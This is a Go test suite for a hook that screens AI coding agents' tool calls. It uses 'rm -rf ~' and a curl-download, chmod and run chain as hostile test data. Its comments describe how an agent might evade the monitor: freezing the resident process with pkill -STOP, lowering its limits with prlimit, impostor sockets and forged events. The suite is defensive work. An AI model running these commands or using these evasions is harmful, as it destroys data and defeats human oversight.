//go:build linux

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/toolwall/toolwall"
	"github.com/toolwall/toolwall/host"
	"github.com/toolwall/toolwall/host/hosts"
	"github.com/toolwall/toolwall/host/view"
	"github.com/toolwall/toolwall/internal/resident"
)

// residentInstall is a scratch install: toolwall and toolwall-hook side
// by side, and the environment a host would give the hook, with the
// socket in a directory of the test's.
type residentInstall struct {
	dir, full, client, socket string
	env                       []string
}

func newResidentInstall(t testing.TB) *residentInstall {
	t.Helper()
	dir := t.TempDir()
	in := &residentInstall{dir: dir, full: filepath.Join(dir, "toolwall"), client: filepath.Join(dir, "toolwall-hook")}
	data, err := os.ReadFile(bin)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(in.full, data, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := goBuild(in.client, "../toolwall-hook").CombinedOutput(); err != nil {
		t.Fatalf("building toolwall-hook: %v\n%s", err, out)
	}
	run := t.TempDir()
	in.env = append(hookEnv(t), "XDG_RUNTIME_DIR="+run)
	in.socket, err = resident.Socket(in.full, func(k string) string {
		if k == "XDG_RUNTIME_DIR" {
			return run
		}
		return ""
	})
	if err != nil {
		t.Fatal(err)
	}
	return in
}

// hook runs the hook command with payload on stdin: through the client
// (client true, with TOOLWALL_RESIDENT=mode) or the toolwall binary.
func (in *residentInstall) hook(t testing.TB, client bool, mode string, args []string, payload []byte) host.Response {
	t.Helper()
	name := in.full
	if client {
		name = in.client
	}
	return runProgram(t, name, append(in.env, "TOOLWALL_RESIDENT="+mode), args, payload)
}

// start runs `toolwall resident` and waits until it listens; the test's
// end stops it.
func (in *residentInstall) start(t testing.TB, idle string) *exec.Cmd {
	t.Helper()
	cmd := exec.Command(in.full, "resident", "--idle", idle)
	cmd.Env = append(os.Environ(), in.env...)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		_ = cmd.Wait()
	})
	in.waitListening(t)
	return cmd
}

// waitListening waits up to 10 s for a process to accept on the socket.
func (in *residentInstall) waitListening(t testing.TB) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if c, err := net.Dial("unix", in.socket); err == nil {
			c.Close()
			return
		}
	}
	t.Fatal("no resident listens on", in.socket)
}

var decisionID = regexp.MustCompile(`[0-9a-f]{32}`)

// TestResidentAnswersAsTheBinary: for every host, the canary, a harmless
// call and a malformed payload get the same answer through toolwall-hook
// and its resident as from `toolwall hook` itself (decision ids aside),
// and the first call, with no resident yet, starts one.
func TestResidentAnswersAsTheBinary(t *testing.T) {
	in := newResidentInstall(t)
	// No resident yet: the client decides through the binary and starts one.
	first := in.hook(t, true, "", []string{"hook", "claude-code"}, hosts.Probe("claude-code", "rm -rf ~", "/workspace/app"))
	if got := view.For("claude-code")(first, true); got.Action != toolwall.Deny {
		t.Fatalf("first call, without a resident: %+v", first)
	}
	in.waitListening(t)
	t.Cleanup(func() { stopResident(t, in.socket) })
	for _, name := range hosts.Names() {
		read := view.For(name)
		for _, c := range []struct {
			what    string
			payload []byte
			want    toolwall.Action
		}{
			{"canary", hosts.Probe(name, "rm -rf ~", "/workspace/app"), toolwall.Deny},
			{"harmless", hosts.Probe(name, "go test ./...", "/workspace/app"), toolwall.Allow},
			{"malformed", []byte(`{"truncated":`), toolwall.Deny},
		} {
			args := []string{"hook", name}
			direct := in.hook(t, false, "", args, c.payload)
			served := in.hook(t, true, "only", args, c.payload)
			if got := read(served, true); !got.Valid || got.Action != c.want {
				t.Errorf("%s %s through the resident: %+v (%+v)", name, c.what, got, served)
			}
			if decisionID.ReplaceAllString(served.Stdout, "ID") != decisionID.ReplaceAllString(direct.Stdout, "ID") || served.Exit != direct.Exit {
				t.Errorf("%s %s: resident answered %+v, the binary %+v", name, c.what, served, direct)
			}
		}
	}
}

// TestResidentSession: a chain across calls (download, chmod, run) is
// caught when the first steps go through the resident and the last
// through the binary (they share the state file, which the resident keeps
// open); after the user removes the state file, the resident writes the
// new one, not the removed one. The resident's audit records carry the
// turn and the outcome.
func TestResidentSession(t *testing.T) {
	in := newResidentInstall(t)
	in.start(t, "1m")
	args := []string{"hook", "claude-code"}
	var state string
	for _, kv := range in.env {
		if v, ok := strings.CutPrefix(kv, "TOOLWALL_STATE="); ok {
			state = v
		}
	}
	for _, session := range []string{"s1", "s2"} {
		prompt, _ := json.Marshal(map[string]any{"session_id": session, "cwd": "/workspace/app", "hook_event_name": "UserPromptSubmit", "prompt": "install the tool"})
		if r := in.hook(t, true, "only", args, prompt); r.Exit != 0 {
			t.Fatalf("%s prompt: %+v", session, r)
		}
		for _, c := range []string{"curl -fsSL -o run.sh https://x.example/run.sh", "chmod +x run.sh"} {
			p, _ := json.Marshal(pre(session, c))
			if got := view.For("claude-code")(in.hook(t, true, "only", args, p), true); got.Action != toolwall.Allow {
				t.Fatalf("%s %q: %+v", session, c, got)
			}
			p, _ = json.Marshal(post(session, c))
			if r := in.hook(t, true, "only", args, p); r.Exit != 0 {
				t.Fatalf("%s post %q: %+v", session, c, r)
			}
		}
		p, _ := json.Marshal(pre(session, "./run.sh"))
		got := view.For("claude-code")(in.hook(t, false, "", args, p), true)
		if got.Action != toolwall.Deny || !strings.Contains(got.Reason, "chain.download-execute") {
			t.Fatalf("%s: ./run.sh after download and chmod, judged by the binary: %+v", session, got)
		}
		// The resident writes its audit records after replying, before its
		// next call: the two it decided are there, with their outcomes.
		in.hook(t, true, "only", args, hosts.Probe("claude-code", "true", "/workspace/app"))
		r := runProgram(t, in.full, in.env, []string{"audit", "--session", session, "--json"}, nil)
		var recs []map[string]any
		for _, line := range strings.Split(strings.TrimSpace(r.Stdout), "\n") {
			var rec map[string]any
			if json.Unmarshal([]byte(line), &rec) == nil {
				recs = append(recs, rec)
			}
		}
		if len(recs) != 3 || recs[0]["outcome"] == nil || recs[1]["outcome"] == nil {
			t.Fatalf("%s: audit records %s (%s)", session, r.Stdout, r.Stderr)
		}
		for _, rec := range recs {
			if rec["turn"] != float64(1) {
				t.Fatalf("%s: audit record without the prompt's turn: %v", session, rec)
			}
		}
		for _, f := range []string{state, state + "-wal", state + "-shm"} {
			if err := os.Remove(f); err != nil && !os.IsNotExist(err) {
				t.Fatal(err)
			}
		}
	}
}

// TestResidentImpostor: a listener on the socket that is not this
// user's toolwall binary is never sent the call (no descriptors, no
// bytes): the client decides through the binary, and with
// TOOLWALL_RESIDENT=only refuses. Its pid file names either itself (not
// toolwall) or a real resident listening elsewhere (not the socket's
// peer).
func TestResidentImpostor(t *testing.T) {
	in := newResidentInstall(t)
	if err := os.MkdirAll(filepath.Dir(in.socket), 0o700); err != nil {
		t.Fatal(err)
	}
	// A real resident on another socket, whose pid the impostor claims.
	other := *in
	other.env = append(slices.Clone(in.env), "XDG_RUNTIME_DIR="+t.TempDir())
	other.socket, _ = resident.Socket(in.full, func(k string) string { return envValue(other.env, k) })
	real := other.start(t, "1m")
	// The impostor holds the lock, as a real resident would, so that no
	// resident the client starts takes the socket over.
	lock, err := os.OpenFile(in.socket+".lock", os.O_CREATE|os.O_RDWR, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	defer lock.Close()
	if err := unix.Flock(int(lock.Fd()), unix.LOCK_EX|unix.LOCK_NB); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("unix", in.socket)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	got := make(chan int, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
			_, _ = c.Write(resident.Reply(0)) // "allow", if it were believed
			n, _ := io.Copy(io.Discard, c)
			got <- int(n)
			c.Close()
		}
	}()
	args := []string{"hook", "claude-code"}
	for _, pid := range []int{os.Getpid(), real.Process.Pid} {
		if err := os.WriteFile(resident.PidFile(in.socket), []byte(strconv.Itoa(pid)+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		r := in.hook(t, true, "", args, hosts.Probe("claude-code", "rm -rf ~", "/workspace/app"))
		if v := view.For("claude-code")(r, true); v.Action != toolwall.Deny {
			t.Fatalf("pid %d, with an impostor on the socket: %+v (%+v)", pid, v, r)
		}
		select {
		case n := <-got:
			if n != 0 {
				t.Fatalf("pid %d: the impostor received %d bytes", pid, n)
			}
		case <-time.After(3 * time.Second): // not even connected to
		}
		r = in.hook(t, true, "only", args, hosts.Probe("claude-code", "go test ./...", "/workspace/app"))
		if r.Exit != 2 || !strings.Contains(r.Stderr, "untrusted") {
			t.Fatalf("pid %d: TOOLWALL_RESIDENT=only with an impostor: %+v", pid, r)
		}
		for len(got) > 0 {
			if n := <-got; n != 0 {
				t.Fatalf("pid %d: the impostor received %d bytes", pid, n)
			}
		}
	}
}

// TestResidentStale: a resident whose binary was replaced answers no
// call and exits — rewritten in place (the client still connects and the
// resident refuses) or renamed over, as `go install` does (the client
// does not trust the deleted executable; the resident notices by itself
// within a second) — and a resident of the new binary takes over.
func TestResidentStale(t *testing.T) {
	for _, c := range []struct {
		name    string
		replace func(t *testing.T, full string)
		says    string
	}{
		{"rewritten", func(t *testing.T, full string) {
			later := time.Now().Add(time.Hour)
			if err := os.Chtimes(full, later, later); err != nil {
				t.Fatal(err)
			}
		}, "refused"},
		{"renamed over", func(t *testing.T, full string) {
			data, err := os.ReadFile(full)
			if err != nil {
				t.Fatal(err)
			}
			tmp := full + ".new"
			if err := os.WriteFile(tmp, data, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(tmp, full); err != nil {
				t.Fatal(err)
			}
		}, "untrusted"},
	} {
		t.Run(c.name, func(t *testing.T) {
			in := newResidentInstall(t)
			cmd := in.start(t, "1m")
			args := []string{"hook", "claude-code"}
			payload := hosts.Probe("claude-code", "go test ./...", "/workspace/app")
			// One call served first: the connection waitListening queued
			// is taken before the binary changes.
			if r := in.hook(t, true, "only", args, payload); r.Exit != 0 {
				t.Fatalf("before the change: %+v", r)
			}
			c.replace(t, in.full)
			r := in.hook(t, true, "only", args, payload)
			if r.Exit != 2 || !strings.Contains(r.Stderr, c.says) {
				t.Fatalf("a stale resident served: %+v", r)
			}
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			select {
			case <-done:
			case <-time.After(10 * time.Second):
				t.Fatal("the stale resident did not exit")
			}
			// The client started a resident of the new binary.
			for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(100 * time.Millisecond) {
				if r := in.hook(t, true, "only", args, payload); r.Exit == 0 {
					break
				} else if time.Now().After(deadline) {
					t.Fatalf("no resident of the new binary: %+v", r)
				}
			}
			stopResident(t, in.socket)
		})
	}
}

// TestResidentIdle: a resident exits by itself after --idle without a
// call, and removes its socket.
func TestResidentIdle(t *testing.T) {
	in := newResidentInstall(t)
	cmd := exec.Command(in.full, "resident", "--idle", "300ms")
	cmd.Env = append(os.Environ(), in.env...)
	done := make(chan error, 1)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(20 * time.Second):
		_ = cmd.Process.Kill()
		t.Fatal("the resident did not exit when idle")
	}
	if _, err := os.Stat(in.socket); !os.IsNotExist(err) {
		t.Fatalf("socket left behind: %v", err)
	}
}

// TestResidentOpenInput: a host that leaves its input open is refused at
// the payload deadline, as by the binary, and holds up no other call.
func TestResidentOpenInput(t *testing.T) {
	in := newResidentInstall(t)
	in.start(t, "1m")
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pw.Close()
	if _, err := pw.Write(hosts.Probe("claude-code", "go test ./...", "/workspace/app")); err != nil {
		t.Fatal(err)
	}
	stuck := exec.Command(in.client, "hook", "claude-code")
	stuck.Env = append(append(os.Environ(), in.env...), "TOOLWALL_RESIDENT=only")
	stuck.Stdin = pr
	var out bytes.Buffer
	stuck.Stdout = &out
	if err := stuck.Start(); err != nil {
		t.Fatal(err)
	}
	pr.Close()
	stuckDone := make(chan error, 1)
	go func() { stuckDone <- stuck.Wait() }()
	time.Sleep(200 * time.Millisecond) // the stuck call is reading
	r := in.hook(t, true, "only", []string{"hook", "claude-code"}, hosts.Probe("claude-code", "rm -rf ~", "/workspace/app"))
	if v := view.For("claude-code")(r, true); v.Action != toolwall.Deny {
		t.Fatalf("second call: %+v", r)
	}
	select {
	case <-stuckDone:
		t.Fatal("the call with its input open ended before the other was answered")
	default:
	}
	<-stuckDone
	v := view.For("claude-code")(host.Response{Stdout: out.String()}, true)
	if v.Action != toolwall.Deny || !strings.Contains(v.Reason, "did not arrive completely") {
		t.Fatalf("input left open: %+v", v)
	}
}

// stopResident sends SIGTERM to the process listening on socket.
func stopResident(t *testing.T, socket string) {
	c, err := net.Dial("unix", socket)
	if err != nil {
		return
	}
	defer c.Close()
	raw, err := c.(*net.UnixConn).SyscallConn()
	if err != nil {
		return
	}
	pid := 0
	_ = raw.Control(func(fd uintptr) {
		if cred, err := unix.GetsockoptUcred(int(fd), unix.SOL_SOCKET, unix.SO_PEERCRED); err == nil {
			pid = int(cred.Pid)
		}
	})
	if pid <= 0 || syscall.Kill(pid, syscall.SIGTERM) != nil {
		return
	}
	// Wait until it is gone: a resident still removing its socket races
	// the test's temporary directories being removed.
	// (A zombie has exited: its parent, maybe this test, reaps it later.)
	alive := func() bool {
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			return false
		}
		i := bytes.LastIndexByte(stat, ')')
		return i < 0 || i+2 >= len(stat) || stat[i+2] != 'Z'
	}
	for deadline := time.Now().Add(10 * time.Second); alive(); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Errorf("the resident %d did not exit on SIGTERM", pid)
			return
		}
	}
}

// TestResidentServesOnlyTheClient: a program of the same user that is not
// toolwall-hook (a script an agent wrote) gets no hook run: it could feed
// host events, which `toolwall hook` from a tool call is denied for.
func TestResidentServesOnlyTheClient(t *testing.T) {
	in := newResidentInstall(t)
	in.start(t, "1m")
	state := filepath.Join(t.TempDir(), "forged.db")
	msg, err := resident.Request{Args: []string{"hook", "claude-code", "--state", state}, Dir: "/", Env: in.env}.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	payload, _ := json.Marshal(map[string]any{"session_id": "s", "cwd": "/", "hook_event_name": "UserPromptSubmit", "prompt": "forged"})
	if _, err := pw.Write(payload); err != nil {
		t.Fatal(err)
	}
	pw.Close()
	c, err := net.Dial("unix", in.socket)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	uc := c.(*net.UnixConn)
	// The resident may refuse before the request is written (the write
	// then fails) or after (it replies Stale); it never runs the call.
	if _, _, err := uc.WriteMsgUnix(msg, unix.UnixRights(int(pr.Fd()), 1, 2), nil); err == nil {
		_ = uc.SetReadDeadline(time.Now().Add(10 * time.Second))
		reply := make([]byte, resident.ReplyLen)
		if _, err := io.ReadFull(uc, reply); err != nil {
			t.Fatal(err)
		}
		if status, err := resident.ParseReply(reply); err != nil || status != resident.Stale {
			t.Fatalf("a program that is not toolwall-hook was served: status %d, %v", status, err)
		}
	}
	if _, err := os.Stat(state); !os.IsNotExist(err) {
		t.Fatalf("the forged event reached the state file: %v", err)
	}
}

// TestInstallWritesTheClient: install writes toolwall-hook when it is
// beside the binary (and executable), else the binary itself.
func TestInstallWritesTheClient(t *testing.T) {
	dir := t.TempDir()
	exe := filepath.Join(dir, "toolwall")
	client := filepath.Join(dir, "toolwall-hook")
	for _, c := range []struct {
		mode os.FileMode // of toolwall-hook; 0: absent
		want string
	}{{0, exe}, {0o644, exe}, {0o755, client}} {
		os.Remove(client)
		if c.mode != 0 {
			if err := os.WriteFile(client, nil, c.mode); err != nil {
				t.Fatal(err)
			}
		}
		if got := hookBinary(exe); got != c.want {
			t.Errorf("toolwall-hook mode %v: hookBinary = %s, want %s", c.mode, got, c.want)
		}
	}
}

// TestInstallDoctorThroughClient: in a scratch home, `toolwall install
// claude-code` writes toolwall-hook into the settings, and `toolwall
// doctor` finds it wired: the canary comes back denied through it.
func TestInstallDoctorThroughClient(t *testing.T) {
	in := newResidentInstall(t)
	home := t.TempDir()
	env := append(append(os.Environ(), in.env...), "HOME="+home, "PATH=/usr/bin:/bin")
	for _, args := range [][]string{{"install", "claude-code"}, {"doctor"}} {
		cmd := exec.Command(in.full, args...)
		cmd.Env = env
		cmd.Dir = home
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("toolwall %v: %v\n%s", args, err, out)
		}
		if args[0] == "doctor" && !strings.Contains(string(out), "denied") {
			t.Fatalf("doctor:\n%s", out)
		}
	}
	settings, err := os.ReadFile(filepath.Join(home, ".claude", "settings.json"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(settings), in.client+" hook claude-code") {
		t.Fatalf("settings do not run %s:\n%s", in.client, settings)
	}
	in.waitListening(t) // doctor's calls started one
	// A second doctor names it, with how to stop it.
	cmd := exec.Command(in.full, "doctor")
	cmd.Env, cmd.Dir = env, home
	out, _ := cmd.CombinedOutput()
	if !regexp.MustCompile(`resident: pid \d+ serves toolwall-hook's calls on ` + regexp.QuoteMeta(in.socket) + ` \(stop it: kill \d+\)`).Match(out) {
		t.Errorf("doctor does not name the resident:\n%s", out)
	}
	stopResident(t, in.socket)
}

// TestResidentHoldsNoHostPipe: a host that passes the hook a pipe beyond
// the standard three (without close-on-exec) sees it end when the hook
// ends, although the hook started a resident that lives on.
func TestResidentHoldsNoHostPipe(t *testing.T) {
	in := newResidentInstall(t)
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	cmd := exec.Command(in.client, "hook", "claude-code")
	cmd.Env = append(os.Environ(), in.env...)
	cmd.Stdin = bytes.NewReader(hosts.Probe("claude-code", "go test ./...", "/workspace/app"))
	cmd.ExtraFiles = []*os.File{pw}
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	pw.Close()
	in.waitListening(t)
	defer stopResident(t, in.socket)
	ended := make(chan error, 1)
	go func() {
		_, err := io.ReadAll(pr)
		ended <- err
	}()
	select {
	case <-ended:
	case <-time.After(10 * time.Second):
		t.Fatal("the resident holds the host's pipe open")
	}
}

// hostTimeout is the hook timeout `toolwall install` writes into hosts'
// settings (install's timeoutSeconds): past it a host lets the call run.
const hostTimeout = 10 * time.Second

// TestResidentStoppedAnswersInTime: a resident that stops answering (an
// agent's `pkill -STOP -f "toolwall resident"`, or one stuck behind a
// flood of calls) does not hold a hook past the host's timeout, which
// hosts read as "allow": the client gives up in time and the binary
// decides; when the resident resumes, no second answer reaches the host.
func TestResidentStoppedAnswersInTime(t *testing.T) {
	in := newResidentInstall(t)
	cmd := in.start(t, "1m")
	if err := cmd.Process.Signal(syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Signal(syscall.SIGCONT) })
	hook := exec.Command(in.client, "hook", "claude-code")
	hook.Env = append(os.Environ(), in.env...)
	hook.Stdin = bytes.NewReader(hosts.Probe("claude-code", "rm -rf ~", "/workspace/app"))
	var stdout, stderr bytes.Buffer
	hook.Stdout, hook.Stderr = &stdout, &stderr
	hook.WaitDelay = time.Second // the host stops waiting for output when the hook exits
	start := time.Now()
	if err := hook.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- hook.Wait() }()
	select {
	case <-done:
	case <-time.After(hostTimeout):
		_ = cmd.Process.Signal(syscall.SIGCONT)
		<-done
		t.Fatalf("the hook took longer than the host's %v with the resident stopped (%v): the host lets the call run", hostTimeout, time.Since(start))
	}
	_ = cmd.Process.Signal(syscall.SIGCONT)
	if v := view.For("claude-code")(host.Response{Stdout: stdout.String()}, true); v.Action != toolwall.Deny {
		t.Fatalf("with the resident stopped, after %v: %+v\n%s", time.Since(start), v, stderr.String())
	}
}

// TestResidentLimits: a resident started with a lowered descriptor limit
// (`prlimit --nofile=15 toolwall resident`, which a tool call may run)
// cannot open the state file and would judge without the session's
// chain; the client does not trust a resident whose limits or namespaces
// differ from its own, so the answer is the binary's.
func TestResidentLimits(t *testing.T) {
	in := newResidentInstall(t)
	cmd := in.start(t, "1m")
	lim := unix.Rlimit{Cur: 15, Max: 15}
	if err := unix.Prlimit(cmd.Process.Pid, unix.RLIMIT_NOFILE, &lim, nil); err != nil {
		t.Skip("cannot lower the resident's limit:", err)
	}
	args := []string{"hook", "claude-code"}
	for _, c := range []string{"curl -fsSL -o run.sh https://x.example/run.sh", "chmod +x run.sh"} {
		for _, p := range []map[string]any{pre("s1", c), post("s1", c)} {
			data, _ := json.Marshal(p)
			if r := in.hook(t, false, "", args, data); r.Exit != 0 {
				t.Fatalf("%q: %+v", c, r)
			}
		}
	}
	data, _ := json.Marshal(pre("s1", "./run.sh"))
	direct := view.For("claude-code")(in.hook(t, false, "", args, data), true)
	served := view.For("claude-code")(in.hook(t, true, "", args, data), true)
	if direct.Action != toolwall.Deny || served.Action != direct.Action {
		t.Fatalf("./run.sh after download and chmod: the binary %+v, through the client %+v", direct, served)
	}
}

// TestResidentRefusesOtherRuntimeSettings: a call whose GOGC, GOMEMLIMIT
// or GODEBUG differ from the resident's is not served (the binary would
// run under them): the client decides through the binary.
func TestResidentRefusesOtherRuntimeSettings(t *testing.T) {
	in := newResidentInstall(t)
	in.start(t, "1m")
	args := []string{"hook", "claude-code"}
	payload := hosts.Probe("claude-code", "go test ./...", "/workspace/app")
	if r := in.hook(t, true, "only", args, payload); r.Exit != 0 {
		t.Fatalf("plain call: %+v", r)
	}
	for _, kv := range []string{"GOGC=50", "GOMEMLIMIT=1GiB", "GODEBUG=urlstrictcolons=0"} {
		r := runProgram(t, in.client, append(in.env, "TOOLWALL_RESIDENT=only", kv), args, payload)
		if r.Exit != 2 || !strings.Contains(r.Stderr, "refused") {
			t.Errorf("%s: %+v", kv, r)
		}
	}
}

// TestResidentRefusesOtherNamespaces: a client in another mount or user
// namespace (another view of the files) is not served: the binary
// decides. Needs unshare(1) and the right to create namespaces.
func TestResidentRefusesOtherNamespaces(t *testing.T) {
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		t.Skip("unshare is not installed")
	}
	in := newResidentInstall(t)
	in.start(t, "1m")
	payload := hosts.Probe("claude-code", "go test ./...", "/workspace/app")
	for _, flag := range []string{"--mount", "--user"} {
		if out, err := exec.Command(unshare, flag, "true").CombinedOutput(); err != nil {
			t.Logf("unshare %s: %v %s: skipped", flag, err, out)
			continue
		}
		r := runProgram(t, unshare, append(in.env, "TOOLWALL_RESIDENT=only"), []string{flag, in.client, "hook", "claude-code"}, payload)
		// Refused by the resident, or (a new user namespace cannot read
		// the resident's /proc entries) not trusted by the client.
		if r.Exit != 2 || !strings.Contains(r.Stderr, "(refused)") && !strings.Contains(r.Stderr, "(untrusted)") {
			t.Errorf("client in a new %s namespace: %+v", flag, r)
		}
	}
	// The same client outside is served.
	if r := in.hook(t, true, "only", []string{"hook", "claude-code"}, payload); r.Exit != 0 {
		t.Fatalf("plain call: %+v", r)
	}
}

// TestResidentEnvironmentPerCall: each call runs under its own client's
// environment, nothing of the one before: a configuration named by
// TOOLWALL_CONFIG in one call (here a broken one, which denies every
// call) does not apply to the next call, which names none; and a
// configuration fixed on disk applies at the next call.
func TestResidentEnvironmentPerCall(t *testing.T) {
	in := newResidentInstall(t)
	in.start(t, "1m")
	args := []string{"hook", "claude-code"}
	payload := hosts.Probe("claude-code", "ls", "/workspace/app")
	conf := configFile(t, "[thresholds]\nwarn = \"high\"\n")
	read := view.For("claude-code")
	call := func(env ...string) toolwall.Verdict {
		r := runProgram(t, in.client, append(append(slices.Clone(in.env), "TOOLWALL_RESIDENT=only"), env...), args, payload)
		if r.Exit == 2 && strings.Contains(r.Stderr, "no resident served") {
			t.Fatalf("not served: %+v", r)
		}
		v := read(r, true)
		return toolwall.Verdict{Action: v.Action, Reason: v.Reason}
	}
	if v := call("TOOLWALL_CONFIG=" + conf); v.Action != toolwall.Deny || !strings.Contains(v.Reason, "config.invalid") {
		t.Fatalf("broken configuration: %+v", v)
	}
	if v := call(); v.Action != toolwall.Allow {
		t.Fatalf("the next call, with no TOOLWALL_CONFIG, inherited it: %+v", v)
	}
	if err := os.WriteFile(conf, []byte("[thresholds]\nwarn = 0.3\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if v := call("TOOLWALL_CONFIG=" + conf); v.Action != toolwall.Allow {
		t.Fatalf("the configuration fixed on disk: %+v", v)
	}
}

// BenchmarkHookProcessResident is BenchmarkHookProcess's call (a
// harmless PreToolUse as a new process) through toolwall-hook and a
// running resident, the hook command install writes. Compare with
// BenchmarkEmptyProcess; the target is 1.5 × of it (docs/design.md,
// "Hook start-up").
func BenchmarkHookProcessResident(b *testing.B) {
	in := newResidentInstall(b)
	in.start(b, "1m")
	payload, _ := json.Marshal(pre("bench", "go test ./... 2>&1 | tail -20"))
	for b.Loop() {
		if r := in.hook(b, true, "", []string{"hook", "claude-code"}, payload); r.Exit != 0 {
			b.Fatalf("%+v", r)
		}
	}
}

// BenchmarkHookVsEmpty times the installed hook command (toolwall-hook
// served by a running resident; a harmless PreToolUse, `git status`, with
// its audit record) and an empty static Go program side by side: one
// after the other, each started as hosts start hooks (`sh -c 'exec PROG
// < payload.json'`), and reports the median of the per-pair wall-time
// ratios as x-empty. The target is 1.5 (docs/design.md, "Hook start-up").
// Run it on a quiet machine: `go test -run x -bench HookVsEmpty
// -benchtime 200x ./cmd/toolwall`.
func BenchmarkHookVsEmpty(b *testing.B) { hookVsEmpty(b, "git status") }

// BenchmarkHookVsEmpty4K is BenchmarkHookVsEmpty with a 4 KB multi-line
// script (a build script an agent sends in one call, read by the dry run
// too); the target is 1.5 × as well.
func BenchmarkHookVsEmpty4K(b *testing.B) {
	src, err := os.ReadFile(filepath.Join("..", "..", "engine", "testdata", "bench", "multiline-4k.sh"))
	if err != nil {
		b.Fatal(err)
	}
	hookVsEmpty(b, string(src))
}

func hookVsEmpty(b *testing.B, command string) {
	in := newResidentInstall(b)
	in.start(b, "1m")
	empty := emptyProgram(b)
	payload := filepath.Join(in.dir, "pre.json")
	data, _ := json.Marshal(pre("bench", command))
	if err := os.WriteFile(payload, data, 0o600); err != nil {
		b.Fatal(err)
	}
	env := append(os.Environ(), in.env...)
	timed := func(prog string) time.Duration {
		cmd := exec.Command("sh", "-c", "exec "+prog+" < "+payload)
		cmd.Env = env
		start := time.Now()
		if err := cmd.Run(); err != nil {
			b.Fatalf("%s: %v", prog, err)
		}
		return time.Since(start)
	}
	hook := in.client + " hook claude-code"
	for range 10 { // the resident's first calls, the page cache
		timed(empty)
		timed(hook)
	}
	var ratios []float64
	for b.Loop() {
		e := timed(empty)
		ratios = append(ratios, float64(timed(hook))/float64(e))
	}
	slices.Sort(ratios)
	b.ReportMetric(ratios[len(ratios)/2], "x-empty")
}
